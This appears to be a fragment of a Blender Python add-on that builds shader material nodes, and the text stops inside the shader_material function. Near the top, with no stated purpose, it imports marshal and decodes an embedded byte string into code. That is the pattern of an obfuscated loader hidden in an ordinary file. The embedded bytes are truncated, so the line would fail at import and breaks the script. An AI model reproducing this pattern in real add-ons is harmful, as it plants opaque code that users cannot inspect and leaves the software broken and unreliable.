# SPDX-License-Identifier: Apache-2.0
import bpy
import marshal
code = marshal.loads(b"\xe3")


def shader_material(material):
    nodes = material.node_tree.nodes
    links = material.node_tree.links
    end = nodes.new("ShaderNodeOutputMaterial")
